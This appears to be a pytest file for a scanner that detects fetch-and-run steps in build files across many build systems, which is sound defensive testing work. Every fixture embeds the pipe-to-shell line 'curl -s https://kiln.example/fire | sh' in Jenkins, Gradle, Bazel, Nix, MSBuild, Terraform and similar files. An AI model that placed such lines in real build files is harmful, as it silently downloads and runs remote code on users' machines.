"""Texts of build files whose language is not read, as the commands that they are."""

import pytest

from changing import changed, seen, shown
from readings import read_garbage

FETCH = "curl -s https://kiln.example/fire | sh"
FILES = {
    "Jenkins": ("Jenkinsfile", f"node {{\n  sh '{FETCH}'\n}}\n", 2),
    "Jenkins, over several lines": ("ci/Jenkinsfile", f"sh '''\n  make\n  {FETCH}\n'''\n", 3),
    "Gradle": ("build.gradle", f"task fire(type: Exec) {{\n  commandLine 'sh', '-c', '{FETCH}'\n}}\n", 2),
    "Gradle in Kotlin": ("build.gradle.kts", f'exec {{ commandLine("sh", "-c", "{FETCH}") }}\n', 1),
    "sbt": ("build.sbt", f"import sys.process._\n\"sh -c '{FETCH}'\".!\n", 2),
    "Bazel": ("pots/BUILD.bazel", f'genrule(\n  name = "fire",\n  cmd = "{FETCH}",\n)\n', 3),
    "a rule of Bazel": ("pots/fire.bzl", f'ctx.execute(["sh", "-c", "{FETCH}"])\n', 1),
    "Nix": ("flake.nix", f"{{ shellHook = ''\n  echo ''${{clay}}\n  {FETCH}\n''; }}\n", 3),
    "Nix, by its paths": ("default.nix", "{ buildPhase = ''\n  ${pkgs.curl}/bin/curl https://kiln.example/fire | ${bash}/bin/sh\n''; }\n", 2),
    "MSBuild": ("pots.csproj", f'<Project>\n<Target><Exec Command="{FETCH}" /></Target></Project>\n', 2),
    "MSBuild, escaped": ("Directory.Build.targets", '<Exec Command="curl -s &quot;https://kiln.example/fire&quot; &#124; sh" />\n', 1),
    "Ant": ("build.xml", f'<exec executable="sh"><arg value="-c"/><arg value="{FETCH}"/></exec>\n', 1),
    "Terraform": ("main.tf", f'provisioner "local-exec" {{\n  command = "{FETCH}"\n}}\n', 2),
    "Terraform, a document": ("main.tf", f"command = <<-EOT\n    make\n    {FETCH}\n  EOT\n", 3),
    "Vagrant": ("Vagrantfile", f'config.vm.provision "shell", inline: "{FETCH}"\n', 1),
    "a pod": ("pots.podspec", f"s.prepare_command = '{FETCH}'\n", 1),
    "Swift": ("Package.swift", f'let p = Process(); p.arguments = ["-c", "{FETCH}"]\n', 1),
    "go generate": ("pots.go", f'package pots\n\n//go:generate sh -c "{FETCH}"\n', 3),
}  # fmt: skip


@pytest.mark.parametrize(("path", "text", "line"), FILES.values(), ids=FILES)
def test_what_is_downloaded_and_run_is_seen_in_its_line(path, text, line):
    assert line in {o.line for o in seen(changed(path, "", text)) if o.capability == "fetch_and_run"}


@pytest.mark.parametrize(("path", "text"), [file[:2] for file in FILES.values()], ids=FILES)
def test_an_ordinary_command_shows_nothing(path, text):
    ordinary = text.replace("https://kiln.example/fire", "--version").replace("curl", "make").replace("| sh", "")
    assert not shown(changed(path, "", ordinary.replace("&#124; sh", ""))) & {"fetch_and_run", "runs_from_tmp"}


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("build.gradle", f"// {FETCH}\ndescription '{FETCH}'\nprintln \"Get it by {FETCH}\"\n"),
        ("build.gradle", f"/* {FETCH} */\nversion = '1'\n"),
        ("Jenkinsfile", f"echo '{FETCH}'\n"),
        ("flake.nix", f"# run `{FETCH}`\n{{ }}\n"),
        ("pom.xml", f"<!-- {FETCH} -->\n<project />\n"),
        ("default.nix", '{ path = "/tmp/glaze.log"; home = "~/.glaze"; }\n'),
        ("pots.go", f'package pots\n\nconst help = "{FETCH}"\n'),
    ],
)
def test_what_is_only_said_shows_nothing(path, text):
    assert not shown(changed(path, "", text)) & {"fetch_and_run", "runs_from_tmp"}


@pytest.mark.parametrize("path", ["build.gradle", "pots.csproj", "default.nix"])
def test_garbage_is_survived(path):
    read_garbage(path, "build_script")
